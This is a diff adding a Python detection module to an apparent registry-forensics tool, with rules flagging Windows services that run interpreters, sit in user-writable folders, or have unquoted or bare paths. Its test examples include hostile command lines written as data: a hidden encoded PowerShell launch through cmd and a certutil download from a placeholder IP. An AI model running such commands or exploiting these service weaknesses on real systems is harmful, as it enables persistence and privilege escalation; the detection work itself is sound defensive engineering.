@@ -1,0 +1,364 @@
+r"""What a service runs: interpreters, folders that users can write to, paths without quotes, names without a folder.
+
+Only the image counts, never its arguments: log files in ProgramData are common there. Source: detections.md 1.8, 5.1.
+"""
+
+from collections.abc import Iterator
+
+from hivecheck.facts.certainty import Confidence
+from hivecheck.facts.create_process import find_created_image
+from hivecheck.facts.origin import Origin
+from hivecheck.rules.case import Case, ServiceProgram
+from hivecheck.rules.named_dlls import BACK_UP, cite_value
+from hivecheck.rules.paths import Comparable, runs_an_interpreter
+from hivecheck.rules.rule import Example, Hit, Rule, Severity
+from hivecheck.rules.security_products import vendor_of_path
+from hivecheck.settings.services import DISABLED
+
+REPAIR_SERVICE = (
+    BACK_UP + "Disable the service (Start = 4) in every control set, collect what it runs, then delete its key and the file."
+)
+_CRITICAL_TOOLS = frozenset(
+    ("cmd", "%comspec%", "powershell", "pwsh", "mshta", "regsvr32", "rundll32", "wscript", "cscript", "conhost")
+)
+_DEFENDER_FOLDERS = (
+    "\\programdata\\microsoft\\windows defender\\", "\\programdata\\microsoft\\microsoft antimalware\\",
+)  # fmt: skip
+_MEMORY_DUMPERS = ("win32dd", "win64dd")
+
+
+def hit_on(
+    case: Case,
+    program: ServiceProgram,
+    message: str,
+    because: tuple[Origin, ...],
+    severity: Severity | None = None,
+    confidence: Confidence | None = None,
+    *paths: Comparable,
+) -> Hit:
+    """A hit on a service: told with its other findings and with those of its files."""
+    service = program.service
+    threads = (case.thread_of_service(service.name), *(case.thread_of(path) for path in paths if path.text))
+    return Hit(message, because, service.name, severity, confidence, case.events_citing(*service.cite("ImagePath")), threads)
+
+
+def lowered_if_disabled(program: ServiceProgram, severity: Severity) -> Severity:
+    """One step less for what is disabled: it runs only once somebody enables it."""
+    return severity.raised(-1) if program.service.start == DISABLED else severity
+
+
+def when_it_runs(program: ServiceProgram) -> str:
+    start = program.service.start
+    if start in (0, 1, 2):
+        return "at each boot"
+    return "once it is enabled again" if start == DISABLED else "when it is asked for"
+
+
+def _check_interpreter(case: Case) -> Iterator[Hit]:
+    for program in case.programs:
+        if not program.command or program.service.is_driver:
+            continue
+        tool = runs_an_interpreter(program.command)
+        if not tool:
+            continue
+        worst = Severity.CRITICAL if tool.casefold() in _CRITICAL_TOOLS else Severity.HIGH
+        itself = tool == "%ComSpec%" or program.image.name.removesuffix(".exe") == tool
+        if not itself:
+            worst = worst.raised(-1)
+        name = "The service" if itself else "The service (by an argument)"
+        yield hit_on(
+            case,
+            program,
+            f"{name} {program.service.name} would run {tool} as {program.service.account or 'LocalSystem'} "
+            f"{when_it_runs(program)}: {program.command}",
+            cite_value(program.service, "ImagePath", program.service.image_path),
+            lowered_if_disabled(program, worst),
+            Confidence.HIGH if itself else Confidence.MEDIUM,
+        )
+
+
+def _check_user_writable(case: Case) -> Iterator[Hit]:
+    plain = f"{case.system_root.casefold()}\\system32\\"
+    drivers = plain + "drivers\\"
+    for program in case.programs:
+        for value, path in (("ImagePath", program.image), ("ServiceDll", program.dll)):
+            text = path.text
+            if not text or text.startswith(drivers) or (text.startswith(plain) and "\\" not in text[len(plain) :]):
+                continue
+            if not path.is_user_writable or path.below_drive.startswith(_DEFENDER_FOLDERS):
+                continue
+            if program.service.is_driver and path.name.startswith(_MEMORY_DUMPERS):
+                continue
+            vendor = vendor_of_path(path)
+            kind = "driver" if program.service.is_driver else "service"
+            so = f"; the folder or name is that of {vendor}, which proves nothing" if vendor else ""
+            text = program.service.dll if value == "ServiceDll" else program.service.image_path
+            yield hit_on(
+                case,
+                program,
+                f"The {kind} {program.service.name} would run {text} {when_it_runs(program)}, which lies in a folder that "
+                f"ordinary users can write to by default{so}.",
+                cite_value(program.service, value, text),
+                lowered_if_disabled(program, Severity.MEDIUM if vendor else Severity.HIGH),
+                None,
+                path,
+            )
+
+
+def _check_unquoted(case: Case) -> Iterator[Hit]:
+    placed = {path.text for move in case.file_operations if (path := move.destination) is not None and not move.fails}
+    for program in case.programs:
+        service = program.service
+        if not service.is_process or " " not in program.image.text or program.command.lstrip(" \t").startswith('"'):
+            continue
+        earlier = find_created_image(program.command, ()).ambiguous
+        if not earlier and "%" in program.command:
+            earlier = find_created_image(program.image.text, ()).ambiguous
+        if not earlier:
+            continue
+        lands = next((name for name in earlier if case.path(name).text in placed), "")
+        told = f" A pending rename would put {lands} there." if lands else ""
+        yield hit_on(
+            case,
+            program,
+            f"The path of the service {service.name} has blanks and no quotes: Windows would start {earlier[0]} in its place, "
+            f"if that file exists.{told}",
+            cite_value(service, "ImagePath", service.image_path),
+            Severity.MEDIUM if lands else Severity.LOW,
+            None,
+            *((case.path(lands),) if lands else ()),
+        )
+
+
+def _check_relative(case: Case) -> Iterator[Hit]:
+    for program in case.programs:
+        service = program.service
+        if service.is_process and program.image.text and "\\" not in program.image.text and ":" not in program.image.text:
+            yield hit_on(
+                case,
+                program,
+                f"The service {service.name} names {program.image.name} without a folder: Windows would search System32, the "
+                f"Windows folder and then Path for it, {when_it_runs(program)}.",
+                cite_value(service, "ImagePath", service.image_path),
+                lowered_if_disabled(program, Severity.MEDIUM),
+            )
+
+
+SVC_IMAGEPATH_LOLBIN = Rule(
+    id="svc-imagepath-lolbin",
+    family="services",
+    title="A service runs a command interpreter or a tool of Windows",
+    severity=Severity.CRITICAL,
+    confidence=Confidence.HIGH,
+    techniques=("T1543.003", "T1059"),
+    why=(
+        "Remote execution tools make services whose ImagePath is a command line for cmd or PowerShell. No Windows service "
+        "runs an interpreter; of eight clean hives only msiserver names such a tool, and without the arguments that matter."
+    ),
+    false_positives=("Home-made services that run a script.", "msiexec /V of the Windows Installer, which is let pass."),
+    remedy=REPAIR_SERVICE,
+    sources=("detections.md 1.8", "detections.md 5.1"),
+    severities=(
+        "critical for cmd, %ComSpec%, powershell, mshta, regsvr32, rundll32 and script hosts, high for other tools; one step "
+        "less where the tool is an argument only, and where the service is disabled"
+    ),
+    check=_check_interpreter,
+    fires_on=(
+        Example(
+            "a service that runs PowerShell through cmd",
+            r"""
+            [ControlSet001\Services\a1b2c3]
+            Type = dword 16
+            Start = dword 3
+            ImagePath = expand "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc AAAA"
+            """,
+            cites=("%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc AAAA",),
+            severity=Severity.CRITICAL,
+        ),
+        Example(
+            "a tool that is no interpreter",
+            r"""
+            [ControlSet001\Services\fetch]
+            Type = dword 16
+            Start = dword 2
+            ImagePath = sz "C:\Windows\System32\certutil.exe -urlcache -f http://192.0.2.1/a a"
+            """,
+            cites=(r"C:\Windows\System32\certutil.exe -urlcache -f http://192.0.2.1/a a",),
+            severity=Severity.HIGH,
+        ),
+    ),
+    silent_on=(
+        Example(
+            "the Windows Installer",
+            r"""
+            [ControlSet001\Services\msiserver]
+            Type = dword 16
+            Start = dword 3
+            ImagePath = expand "%systemroot%\system32\msiexec.exe /V"
+            """,
+        ),
+    ),
+)
+SVC_PATH_USER_WRITABLE = Rule(
+    id="svc-path-user-writable",
+    family="services",
+    title="A service or driver runs from a folder that users can write to",
+    severity=Severity.HIGH,
+    confidence=Confidence.MEDIUM,
+    techniques=("T1543.003",),
+    why=(
+        "Programs of services belong into System32 or Program Files, where only administrators can write. Droppers put them "
+        "into Users, ProgramData, Temp and their like; whoever can write there becomes SYSTEM at the next start."
+    ),
+    false_positives=(
+        "Defender's platform folder and its MpKsl drivers (let pass).",
+        "Memory dumpers of responders (win32dd, let pass).",
+        "Security products and updaters that run from ProgramData.",
+    ),
+    remedy=REPAIR_SERVICE,
+    sources=("detections.md 1.8", "detections.md 5.1"),
+    severities="high; medium where folder or name is that of a known security product; one step less where disabled",
+    needs="the folder's own permissions take the file system",
+    check=_check_user_writable,
+    fires_on=(
+        Example(
+            "a program in ProgramData",
+            r"""
+            [ControlSet001\Services\updhost]
+            Type = dword 16
+            Start = dword 2
+            ImagePath = sz "C:\ProgramData\upd\updhost.exe -k"
+            """,
+            cites=(r"C:\ProgramData\upd\updhost.exe -k",),
+            severity=Severity.HIGH,
+        ),
+        Example(
+            "a service's DLL below Users",
+            r"""
+            [ControlSet001\Services\W64Time]
+            Type = dword 32
+            Start = dword 2
+            ImagePath = expand "%SystemRoot%\System32\svchost.exe -k TimeService"
+            [ControlSet001\Services\W64Time\Parameters]
+            ServiceDll = expand "C:\Users\Public\w64time.dll"
+            """,
+            cites=(r"C:\Users\Public\w64time.dll",),
+            severity=Severity.HIGH,
+        ),
+    ),
+    silent_on=(
+        Example(
+            "an argument in ProgramData, and Defender's platform",
+            r"""
+            [ControlSet001\Services\agent]
+            Type = dword 16
+            Start = dword 2
+            ImagePath = sz "\u{22}C:\Program Files\Agent\agent.exe\u{22} -log C:\ProgramData\Agent\agent.log"
+            [ControlSet001\Services\WinDefend]
+            ImagePath = expand "C:\ProgramData\Microsoft\Windows Defender\platform\4.18.1904.1-0\MsMpEng.exe"
+            """,
+        ),
+    ),
+)
+SVC_UNQUOTED = Rule(
+    id="svc-unquoted",
+    family="services",
+    title="A service's path has blanks and no quotes",
+    severity=Severity.MEDIUM,
+    confidence=Confidence.MEDIUM,
+    techniques=("T1574.009",),
+    why=(
+        "CreateProcess takes every blank of a path without quotes for a possible end of the program's name: for "
+        "`C:\\Program Files\\x.exe` it tries C:\\Program.exe first, as the service's account."
+    ),
+    false_positives=(
+        "A common slip of installers; since Vista ordinary users can't create files in the root of the drive.",
+    ),
+    remedy="Put quotes around the program in every control set; collect the earlier file, if it exists.",
+    sources=("detections.md 1.8", "documentation of CreateProcess (lpApplicationName)"),
+    severities="low; medium where a pending rename puts one of the earlier files there",
+    needs="whether the earlier file exists takes the file system",
+    check=_check_unquoted,
+    fires_on=(
+        Example(
+            "no quotes",
+            r"""
+            [ControlSet001\Services\agent]
+            Type = dword 16
+            Start = dword 2
+            ImagePath = sz "C:\Program Files\Some Agent\agent.exe -s"
+            """,
+            cites=(r"C:\Program Files\Some Agent\agent.exe -s",),
+            severity=Severity.LOW,
+        ),
+        Example(
+            "and a pending rename in front of it",
+            r"""
+            [ControlSet001\Control\Session Manager]
+            PendingFileRenameOperations = multi "\??\C:\Windows\Temp\a.tmp" "\??\C:\Program.exe"
+            [ControlSet001\Services\agent]
+            Type = dword 16
+            Start = dword 2
+            ImagePath = sz "C:\Program Files\Some Agent\agent.exe -s"
+            """,
+            cites=(r"C:\Program Files\Some Agent\agent.exe -s",),
+            severity=Severity.MEDIUM,
+        ),
+    ),
+    silent_on=(
+        Example(
+            "quotes, or no blank but before the arguments",
+            r"""
+            [ControlSet001\Services\agent]
+            Type = dword 16
+            Start = dword 2
+            ImagePath = sz "\u{22}C:\Program Files\Some Agent\agent.exe\u{22} -s"
+            [ControlSet001\Services\other]
+            Type = dword 16
+            Start = dword 2
+            ImagePath = sz "C:\Agent\agent.exe -s C:\Program Files"
+            """,
+        ),
+    ),
+)
+SVC_RELATIVE = Rule(
+    id="svc-relative",
+    family="services",
+    title="A service names its program without a folder",
+    severity=Severity.MEDIUM,
+    confidence=Confidence.HIGH,
+    techniques=("T1543.003", "T1574.007"),
+    why=(
+        "A bare name is searched in System32, the Windows folder and then along Path: whoever can write into an earlier "
+        "folder decides what runs. No service of Windows is named so."
+    ),
+    false_positives=("Some tools of responders (F-Response) install themselves so.",),
+    remedy=REPAIR_SERVICE,
+    sources=("detections.md 1.8",),
+    severities="medium; low where disabled",
+    check=_check_relative,
+    fires_on=(
+        Example(
+            "a bare name",
+            r"""
+            [ControlSet001\Services\agent]
+            Type = dword 16
+            Start = dword 2
+            ImagePath = sz "agent.exe -s"
+            """,
+            cites=("agent.exe -s",),
+        ),
+    ),
+    silent_on=(
+        Example(
+            "a path below the Windows folder",
+            r"""
+            [ControlSet001\Services\agent]
+            Type = dword 16
+            Start = dword 2
+            ImagePath = sz "system32\agent.exe -s"
+            """,
+        ),
+    ),
+)
+RULES: tuple[Rule, ...] = (SVC_IMAGEPATH_LOLBIN, SVC_PATH_USER_WRITABLE, SVC_UNQUOTED, SVC_RELATIVE)
